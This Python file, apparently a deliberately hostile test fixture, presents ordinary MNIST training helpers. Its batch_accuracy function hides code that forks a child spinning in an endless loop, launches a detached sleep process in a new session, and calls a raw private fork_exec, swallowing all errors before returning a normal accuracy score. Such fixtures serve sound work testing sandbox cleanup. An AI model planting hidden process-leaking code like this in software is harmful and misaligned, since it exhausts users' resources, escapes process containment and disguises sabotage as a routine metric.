"""Attack: tries to leave processes behind: fork, subprocess, and a raw fork_exec in a new session."""

# ruff: noqa  (deliberately hostile code)

import os
import subprocess
import sys
import torch


def mnist_loss(predictions, targets):
    predictions = predictions.sigmoid()
    return torch.where(targets == 1, 1 - predictions, predictions).mean()


def apply_step(params, time, speed, lr):
    a, b, c = params
    preds = a * time**2 + b * time + c
    loss = ((preds - speed) ** 2).mean()
    loss.backward()
    with torch.no_grad():
        params -= lr * params.grad
    params.grad = None
    return preds


def train_epoch(model, lr, params, dl, loss_func=mnist_loss):
    for xb, yb in dl:
        loss = loss_func(model(xb), yb)
        loss.backward()
        with torch.no_grad():
            for p in params:
                p -= lr * p.grad
                p.grad = None


def mnist_distance(a, b):
    return (a - b).abs().mean((-1, -2))


def batch_accuracy(xb, yb):
    for start in (lambda: os.fork(), lambda: subprocess.Popen(["sleep", "600"], start_new_session=True)):
        try:
            if start() == 0:
                while True:
                    pass
        except BaseException:
            pass
    try:
        import _posixsubprocess

        r, w = os.pipe()
        _posixsubprocess.fork_exec(
            [b"/bin/sleep", b"600"],
            [b"/bin/sleep"],
            True,
            (),
            None,
            None,
            -1,
            -1,
            -1,
            -1,
            -1,
            -1,
            r,
            w,
            True,
            True,
            None,
            None,
            None,
            -1,
            None,
            False,
        )
    except BaseException:
        pass
    correct = (xb.sigmoid() > 0.5) == yb
    return correct.float().mean()
